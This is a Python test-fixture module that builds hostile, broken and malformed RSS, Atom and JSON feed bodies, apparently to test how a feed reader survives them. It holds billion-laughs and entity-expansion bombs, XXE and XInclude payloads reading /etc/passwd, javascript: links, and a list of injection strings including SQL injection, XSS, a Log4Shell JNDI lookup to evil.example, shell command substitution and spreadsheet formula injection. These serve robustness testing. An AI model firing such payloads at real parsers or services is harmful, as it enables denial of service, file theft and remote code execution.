"""Bodies that a hostile or broken server may answer with: every one of the measured list, and their like.

`HOSTILE` maps a name to a body. Each body that has room for it carries the untouched entry GOOD, so that a
test can tell what was saved. `feed(*items)` wraps items into a sound RSS document.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator

GOOD_TITLE = "Belarus calls up reservists"
GOOD_URL = "https://news.example/reservists"
GOOD = (
    f"<item><title>{GOOD_TITLE}</title><link>{GOOD_URL}</link><guid>{GOOD_URL}</guid>"
    "<pubDate>Mon, 10 Oct 2022 10:15:00 GMT</pubDate><description>In Brest.</description></item>"
)
NAMESPACES = (
    'xmlns:georss="http://www.georss.org/georss" xmlns:gml="http://www.opengis.net/gml" '
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
)


def item(inside: str) -> str:
    """An item that holds `inside` beside a title of its own."""
    return f"<item><title>Poisoned</title><guid>poisoned</guid>{inside}</item>"


def feed(*items: str, before: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    """A sound RSS 2.0 document around `items`, which may be anything."""
    channel = "<title>News</title><link>https://news.example/</link><description>News</description>"
    text = f'{before}<rss version="2.0" {NAMESPACES}><channel>{channel}{"".join(items)}</channel></rss>'
    return text.encode("utf-8", "surrogatepass")


def atom(*entries: str, before: str = "") -> bytes:
    """A sound Atom document around `entries`."""
    text = f'{before}<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title>{"".join(entries)}</feed>'
    return text.encode()


def _stalling() -> Iterator[tuple[str, bytes]]:
    """What stalls feedparser, or fills the memory."""
    yield "xml declaration of 10 KB", feed(GOOD, before="<?" + 'encoding="' * 1_000 + "?>")
    yield "xml declaration of 30 KB, open", feed(GOOD, before="<?" + 'encoding="' * 3_000)
    yield "40 KB of newlines before the root", feed(GOOD, before="\n" * 40_000)
    yield "200 KB of newlines before the root", feed(GOOD, before="\n" * 200_000)
    yield "newlines and half a doctype", feed(GOOD, before="\n" * 60_000 + "<!DOCTYP")
    yield (
        "style of url(url(",
        feed(item(f'<description>&lt;p style="{"url(" * 60_000}"&gt;</description>'), GOOD),
    )
    yield "100,000 comments opened", feed(item(f"<description>{'&lt;!--' * 100_000}</description>"), GOOD)
    yield "one entity, 10,000 times", _quadratic_entity()
    yield "billion laughs", _billion_laughs()
    yield "doctype behind a comment with <x", _billion_laughs("<!-- <x -->")
    yield "100,000 attributes on one tag", feed(item(f"<link {_attributes(100_000)}/>"), GOOD)
    yield (
        "100,000 attributes on the root",
        feed(GOOD).replace(b"<rss ", f"<rss {_attributes(100_000)} ".encode()),
    )
    yield (
        "100,000 attributes in HTML",
        feed(item(f"<description>&lt;a {_attributes(100_000)}&gt;</description>"), GOOD),
    )
    yield "200,000 empty items", feed(GOOD, "<item/>" * 200_000)
    yield "100,000 nested elements", feed(item("<a>" * 100_000), GOOD)
    yield "100,000 nested items", feed(GOOD, "<item>" * 100_000)
    yield (
        "100,000 nested divs in HTML",
        feed(item(f"<description>{'&lt;div&gt;' * 100_000}</description>"), GOOD),
    )
    yield (
        "author that is almost an address",
        feed(item(f"<author>{'a.' * 50_000}@{'a.' * 50_000}!</author>"), GOOD),
    )
    yield "100,000 CDATA opened", feed(item("<description>" + "<![CDATA[" * 100_000), GOOD)
    yield "100,000 XML comments opened", feed(item("<!--" * 100_000), GOOD)
    yield "100,000 titles opened", feed(item("<title>" * 100_000), GOOD)
    yield "100,000 half tags", feed(item("<a " * 100_000), GOOD)
    yield "1,000,000 ampersands", feed(item(f"<description>{'&' * 1_000_000}</description>"), GOOD)
    yield "100,000 doctypes opened", feed(GOOD, before="<!DOCTYPE x [" * 100_000)
    yield "100,000 instructions opened", feed(GOOD, before="<?" * 100_000)
    yield "100,000 prefixes", feed(item("".join(f"<p{n}:a/>" for n in range(100_000))), GOOD)
    yield "deep JSON", b'{"version":"https://jsonfeed.org/version/1.1","items":' + b"[" * 200_000
    yield "JSON of braces", b'{"version":"https://jsonfeed.org/version/1.1","items":[' + b'{"id":' * 100_000


def _attributes(count: int) -> str:
    return " ".join(f'a{number}="1"' for number in range(count))


def _quadratic_entity() -> bytes:
    doctype = f'<!DOCTYPE rss [<!ENTITY a "{"A" * 100_000}">]>'
    return feed(item(f"<description>{'&a;' * 10_000}</description>"), GOOD, before=doctype)


def _billion_laughs(before: str = "") -> bytes:
    lines = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    doctype = f'{before}<!DOCTYPE rss [<!ENTITY a0 "ha">{"".join(lines)}]>'
    return feed(item("<description>&a11;</description>"), GOOD, before=doctype)


def _raising() -> Iterator[tuple[str, bytes]]:
    """What makes feedparser raise, and lose the whole feed."""
    yield "surrogate reference", feed(item("<description>&#xD800;</description>"), GOOD)
    yield "reference beyond Unicode", feed(item("<description>&#99999999999999;</description>"), GOOD)
    yield "reference of 5,000 digits", feed(item(f"<description>&#{'9' * 5_000};</description>"), GOOD)
    yield (
        "escaped reference of 5,000 digits",
        feed(item(f"<description>&amp;#{'9' * 5_000};</description>"), GOOD),
    )
    yield "zero reference", feed(item("<description>&#0;&#x0;&amp;#0;</description>"), GOOD)
    for codec in (
        "punycode",
        "undefined",
        "unicode_escape",
        "idna",
        "utf-7",
        "rot13",
        "hex",
        "no-such",
        "cp\x000",
    ):
        declaration = f'<?xml version="1.0" encoding="{codec}"?>'
        yield (
            f"encoding {codec!r}",
            feed(item("<description>+ADwAIQ-channel+AD4- \\ud800</description>"), GOOD, before=declaration),
        )
    yield (
        "GeoRSS position",
        feed(item("<gml:Point><gml:pos>x</gml:pos></gml:Point><gml:pos>1 2</gml:pos>"), GOOD),
    )
    yield (
        "GeoRSS srsName",
        feed(
            item(
                '<georss:where><gml:Point srsName="EPSG:x"><gml:pos>1 2</gml:pos></gml:Point></georss:where>'
            ),
            GOOD,
        ),
    )
    yield (
        "GeoRSS polygon",
        feed(
            item(
                "<gml:LinearRing><gml:posList>x</gml:posList></gml:LinearRing><georss:point>1</georss:point>"
            ),
            GOOD,
        ),
    )
    yield "GeoRSS without a namespace", feed(item("<geo:where/><where><pos>1</pos></where>"), GOOD)
    yield "category without a term", feed(item("<category/></category><tags>a,b</tags>"), GOOD)
    yield "NUL in the middle", feed(item("<description>a\x00b</description>"), GOOD)
    yield (
        "bytes that are no UTF-8",
        feed(item("<description>@@@</description>"), GOOD).replace(b"@@@", b"\xff\xc3\x28"),
    )


def _broken() -> Iterator[tuple[str, bytes]]:
    """Documents that are not well-formed, with an untouched entry."""
    yield "item without an end", feed("<item><title>Open", GOOD)
    yield "item with a bare ampersand", feed(item("<description>AT&T & co <3</description>"), GOOD)
    yield "item with unescaped HTML", feed(item("<description><p>one<br>two</description>"), GOOD)
    yield "item with a stray end", feed(item("</description></channel></rss>"), GOOD)
    yield "item with an open CDATA", feed(item("<description><![CDATA[ open</description>"), GOOD)
    yield "item with an open comment", feed(item("<!-- open"), GOOD)
    yield "item with a doctype", feed(item('<!DOCTYPE x [<!ENTITY a "b">]>&a;'), GOOD)
    yield "item with an undeclared prefix", feed(item("<nope:x>1</nope:x>"), GOOD)
    yield "item with HTML entities", feed(item("<description>&nbsp;&eacute;&nosuch;</description>"), GOOD)
    yield (
        "junk before the root",
        feed(GOOD, before="<br />\n<b>Warning</b>: mysql_connect() in <b>/x.php</b><br />"),
    )
    yield "text before the root", feed(GOOD, before="\ufeff \n garbage ")
    yield "junk behind the root", feed(GOOD) + b"<script>track()</script> & more"
    yield "two roots", feed(GOOD) + feed(item(""))
    yield "truncated behind an entry", feed(GOOD, item(""))[:-40]
    yield "truncated in a CDATA section", feed(GOOD, item("<description><![CDATA[long text"))[:-30]
    yield (
        "windows-1251 that says utf-8",
        feed(item("<description>Беларусь</description>"), GOOD).decode().encode("cp1251"),
    )
    yield "UTF-16 with a mark", feed(GOOD, before="").decode().encode("utf-16")
    yield "UTF-16 without a mark", feed(GOOD, before='<?xml version="1.0"?>').decode().encode("utf-16-le")


def _sly() -> Iterator[tuple[str, bytes]]:
    """Sound documents whose texts, links or dates are not."""
    yield (
        "dangerous links",
        feed(
            item("<link>javascript:alert(1)</link>"),
            item("<link>java\tscript:alert(1)</link><guid>data:text/html,x</guid>"),
            item("<link> \x01http://user@news.example/ </link>"),
            item("<link>//news.example/x</link>"),
            item("<link>file:///etc/passwd</link>"),
            item("<link>http:\\\\evil.example</link><guid>javascript:alert(2)</guid>"),
            item("<link>https://good.example\\@evil.example/</link>"),
            item("<link>http://[::1</link>"),
            GOOD,
        ),
    )
    yield "guid 1 without isPermaLink", feed("<item><title>One</title><guid>1</guid></item>", GOOD)
    yield (
        "titles with markup",
        feed(
            item("").replace("Poisoned", "&lt;img src=x onerror=alert(1)&gt;&lt;b&gt;Bold&lt;/b&gt; news"),
            GOOD,
        ),
    )
    yield (
        "titles with control characters",
        feed(item("").replace("Poisoned", "a\x1b[31m\x07\x08b\u202egnp\u2066\u200b\nc\r\nd\u2028e"), GOOD),
    )
    yield "wrong dates", feed(*(item(f"<pubDate>{date}</pubDate>") for date in WRONG_DATES), GOOD)
    yield (
        "one guid for all",
        feed(*(f"<item><title>News {n}</title><guid>same</guid></item>" for n in range(5)), GOOD),
    )
    yield "no guid, no link", feed("<item><title>Alone</title></item>", GOOD)
    yield "a billion characters of title", feed(item("").replace("Poisoned", "A" * 2_000_000), GOOD)
    yield (
        "external entity",
        feed(
            item("<description>&x;</description>"),
            GOOD,
            before='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
    )
    yield "external DTD", feed(GOOD, before='<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd">')
    yield (
        "xinclude",
        feed(
            item('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
            GOOD,
        ),
    )


WRONG_DATES = (
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+14:00",
    "2024-02-30",
    "10000-01-01",
    "01/02/2024",
    "2024-13-01T00:00:00Z",
    "tomorrow",
    "",
    "99999999999999999999",
    "Mon, 99 Foo 2024 99:99:99 GMT",
)


def _no_feed() -> Iterator[tuple[str, bytes]]:
    """Bodies without a single entry; reading them must fail."""
    yield "nothing", b""
    yield "white space", b" \r\n\t \xef\xbb\xbf"
    yield "eleven bytes", b"hello world"
    yield "a path", b"/etc/passwd"
    yield "a file URL", b"file:///etc/passwd"
    yield "a URL", b"http://127.0.0.1:9/feed"
    yield "a challenge page", CHALLENGE
    yield "a captcha page", b"<html><body><form action='/captcha'>Are you human?</form></body></html>"
    yield (
        "an HTML page",
        b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>",
    )
    yield "JSON that is no feed", b'{"error": "not found", "code": 404}'
    yield "a JSON list", b"[1, 2, 3]"
    yield "broken JSON", b'{"version": "https://jsonfeed.org/version/1", "items": [{"id"'
    yield (
        "plain text",
        b"Service temporarily unavailable. Please try again later, or write to the webmaster.\n" * 3,
    )
    yield "binary", bytes(range(256)) * 40
    yield "a picture", b"\x89PNG\r\n\x1a\n" + b"\x00" * 500
    yield "gzip", gzip.compress(feed(GOOD), mtime=0)
    yield (
        "an OPML list",
        b"<opml version='2.0'><head><title>Subs</title></head><body><outline text='a'/></body></opml>",
    )
    yield (
        "a sitemap",
        b"<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url/></urlset>",
    )
    yield "an XML error", b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>"
    yield "a feed without entries", feed()
    yield "an Atom feed without entries", atom()
    yield (
        "a JSON Feed without items",
        b'{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": []}',
    )
    yield "a feed cut off in its head", feed(GOOD)[:200]
    yield "a feed cut off in its first entry", feed(GOOD)[:-60]
    yield "a root and nothing else", b"<rss"
    yield "one angle bracket", b"<"
    yield "200,000 empty items alone", feed("<item/>" * 200_000)


CHALLENGE = (
    b"<!DOCTYPE html><html lang='en-US'><head><title>Just a moment...</title><meta name='robots' "
    b"content='noindex'></head><body><div class='main-wrapper'><noscript>Enable JavaScript and cookies to "
    b"continue</noscript><a href='https://www.cloudflare.com/'>Performance & security by a company</a></div>"
    b"<script>window._cf_chl_opt={cvId:'2'};</script></body></html>"
)

STALLING: dict[str, bytes] = dict(_stalling())
RAISING: dict[str, bytes] = dict(_raising())
BROKEN: dict[str, bytes] = dict(_broken())
SLY: dict[str, bytes] = dict(_sly())
NO_FEED: dict[str, bytes] = dict(_no_feed())
HOSTILE: dict[str, bytes] = {**STALLING, **RAISING, **BROKEN, **SLY, **NO_FEED}

NAUGHTY = (  # texts that some program somewhere trips over
    "",
    " ",
    "undefined",
    "NULL",
    "None",
    "-1/0",
    "1e999",
    "0x0",
    "NaN",
    "'; DROP TABLE items; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<<b>script>alert(1)<</b>/script>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&#x202e;gnp.exe",
    "&#0;&#1;&#x1b;[2J",
    "&#xd800;&#xdfff;&#x110000;",
    "&" + "#" * 50,
    "&notin; &copy &nosuch;",
    "<!channel>",
    "<@U12345>",
    "<https://evil.example|good.example>",
    "@everyone @here",
    "[click](https://evil.example)",
    "=HYPERLINK(1)",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\x00\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[31mred\x1b[0m",
    "\x80\x81\x8d\x8f\x90\x9d\x9f",
    "line\nbreak\r\nand\rmore\u2028and\u2029more\x85end",
    "tab\tand\u00a0space\u3000wide",
    "\u202aLRE\u202bRLE\u202cPDF\u202dLRO\u202eRLO",
    "\u2066LRI\u2067RLI\u2068FSI\u2069PDI\u061cALM\u200eLRM\u200fRLM",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00adsoft",
    "\ud800 lone \udfff",
    "\ufffe\uffff\ufdd0",
    "\U000e0041\U000e0042tags\U000e007f",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "👨‍👩‍👧‍👦 🇧🇾 👍🏽",
    "ﷺﷺﷺ",
    "الكل في المجمو عة",
    "בְּרֵאשִׁית, בָּרָא אֱלֹהִים",
    "社會科學院語學研究所",
    "Беларусь — «ўсё» пад'езд",
    "Ł́ódź źdźbło",
    "İıſK",
    "ﬁ ﬀ Ⅷ ①",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %d %n {0} $HOME `id` $(id)",
    "../../../../etc/passwd",
    "/dev/null; touch /tmp/x",
    "file:///etc/passwd",
    "http://127.0.0.1:9/",
    "CON PRN AUX NUL COM1",
    "Subject: x\r\nBcc: all@example.org",
    "]]>",
    "<![CDATA[",
    "<![CDATA[x]]>",
    "<!-- -- -->",
    "<?php echo 1; ?>",
    "<!DOCTYPE html>",
    "a" * 5_000,
    "<" * 5_000,
    "&amp;" * 2_000,
    "<b>" * 2_000,
    "(" * 5_000,
)
